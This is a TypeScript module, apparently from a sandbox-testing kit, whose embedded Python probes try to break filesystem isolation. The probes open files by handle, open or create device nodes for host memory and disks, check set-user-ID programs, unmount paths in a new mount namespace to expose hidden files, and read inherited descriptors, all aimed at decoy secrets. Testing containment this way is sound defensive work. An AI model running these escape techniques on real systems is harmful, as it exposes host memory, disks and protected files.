import { rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { freshNonce } from "../../decoys/nonce.js";
import { commandOf } from "../../programs/run-program.js";
import { type Attack, notRun } from "../attack.js";
import { outcomeOf, programAttack } from "../program-attack.js";

/** Access to a file outside without its path. */
export const kernelAttacks = [
  programAttack({
    id: "filesystem.host-hidden/file-handle",
    title: "open a file by its handle, without a path",
    needs: "CAP_DAC_READ_SEARCH",
    asRoot: true,
    program: `
numbers = {"x86_64": (303, 304), "aarch64": (264, 265)}
def by_handle():
    name_to_handle, open_by_handle = numbers[os.uname().machine]
    path = os.path.join(os.environ.get("TMPDIR", "/tmp"), "handle-%d" % time.monotonic_ns())
    for place in (path, "/usr/bin/env"):
        try:
            if place == path:
                open(path, "w").close()
            handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
            mount = ctypes.c_int()
            syscall(name_to_handle, -100, place.encode(), handle, ctypes.byref(mount), 0)
            folder = os.open(os.path.dirname(place), os.O_RDONLY)
            os.close(syscall(open_by_handle, folder, handle, os.O_RDONLY))
            return "any file of this file system can be opened by its number"
        except OSError as error:
            failure = error
    raise failure
attempt("open_by_handle_at", by_handle)`,
  }),
  programAttack({
    id: "filesystem.host-hidden/device-nodes",
    title: "open the host's memory, log or disks through existing or new device files",
    needs: "CAP_MKNOD",
    asRoot: true,
    program: `
def opened(path):
    # Opened and closed: no byte of a real disk is read.
    os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
    return "opened " + path
disks = [path for pattern in ("vd?", "sd?", "xvd?", "nvme?n?", "dm-?", "loop?") for path in glob.glob("/dev/" + pattern)]
for path in ["/dev/kmsg", "/dev/mem", "/dev/port", "/dev/kvm"] + disks:
    attempt(path, lambda: opened(path))
def made(device):
    path = os.path.join(os.environ.get("TMPDIR", "/tmp"), "device-%d" % time.monotonic_ns())
    os.mknod(path, stat.S_IFBLK | 0o600, device)
    try:
        return opened(path)
    finally:
        os.unlink(path)
for place in ("/", "/usr"):
    attempt("mknod", lambda: made(os.stat(place).st_dev))`,
  }),
  programAttack({
    id: "filesystem.host-hidden/set-user-id",
    stoppedBy: ["no new privileges"],
    title: "run a set-user-ID program of the host",
    needs: "a set-user-id program",
    program: String.raw`
def changed():
    """The effective user of a program that blocks while writing."""
    seen = []
    for path in ("/usr/bin/mount", "/usr/bin/umount", "/usr/bin/su", "/usr/bin/passwd", "/usr/bin/chsh"):
        if not os.path.exists(path) or not os.stat(path).st_mode & stat.S_ISUID:
            continue
        reader, writer = os.pipe()
        os.set_blocking(writer, False)
        try:
            while True:
                os.write(writer, bytes(4096))
        except BlockingIOError:
            os.set_blocking(writer, True)
        child = subprocess.Popen([path, "--help"], stdin=subprocess.DEVNULL, stdout=writer, stderr=writer)
        os.close(writer)
        try:
            for _ in range(200):
                state = content("/proc/%d/status" % child.pid).decode()
                if path.split("/")[-1] in state.split("\n")[0] and "(sleeping)" in state:
                    break
                time.sleep(0.01)
            real, effective = re.search(r"Uid:\s+(\d+)\s+(\d+)", state).groups()
            if real != effective:
                return "%s ran as user %s" % (path, effective)
            seen.append(path)
        finally:
            os.close(reader)
            child.wait()
    if not seen:
        raise OSError(errno.ENOENT, "none in sight")
    return None
attempt("set-user-id", changed)`,
  }),
  programAttack({
    id: "filesystem.host-hidden/own-mounts",
    stoppedBy: ["system call filter", "refusal of nested user namespaces", "hidden host files"],
    title: "uncover hidden paths in a new mount namespace",
    needs: "unprivileged user namespaces",
    parameters: ({ decoys }) => ({ path: decoys.folder.secretFile }),
    program: String.raw`
def uncover():
    check(libc.unshare(0x10000000 | 0x00020000))
    for line in reversed(content("/proc/self/mounts").decode().split("\n")):
        if line:
            libc.umount2(line.split()[1].encode(), 2)
    return leaks(content(P["path"]))
attempt("unshare", uncover)`,
  }),
  inheritedDescriptors(),
] as const;

/** Files that the runner has open without close-on-exec: its own shell's leftovers, a library's log. */
function inheritedDescriptors(): Attack {
  return {
    id: "filesystem.host-hidden/inherited-descriptors",
    stoppedBy: ["closed descriptors"],
    capability: "filesystem.host-hidden",
    title: "read a file that the runner has open",
    needsRunner: true,
    alone: true,
    perform: async ({ decoys, startRunner }) => {
      if (startRunner === undefined) return notRun("the kit has no way to start a separate runner");
      const inheritedFile = join(decoys.folder.path, freshNonce());
      await writeFile(inheritedFile, decoys.secret, { mode: 0o600 });
      const runner = await startRunner({ argv: commandOf(program, {}).argv, inheritedFile });
      try {
        return outcomeOf(await runner.finished);
      } finally {
        await runner.kill();
        await rm(inheritedFile);
      }
    },
  };
}

const program = `
def descriptors():
    found = set()
    for name in os.listdir("/proc/self/fd"):
        if int(name) < 3:
            continue
        for read in (lambda: os.pread(int(name), 4096, 0), lambda: content("/proc/self/fd/" + name)):
            try:
                found.update(leaks(read()).split())
            except OSError:
                continue
    return " ".join(found)
attempt("descriptors", descriptors)
attempt("init's descriptors", lambda: each(glob.glob("/proc/1/fd/*") + glob.glob("/proc/%d/fd/*" % os.getppid()),
                                           lambda path: content(path) if os.path.isfile(path) else b""))
`;
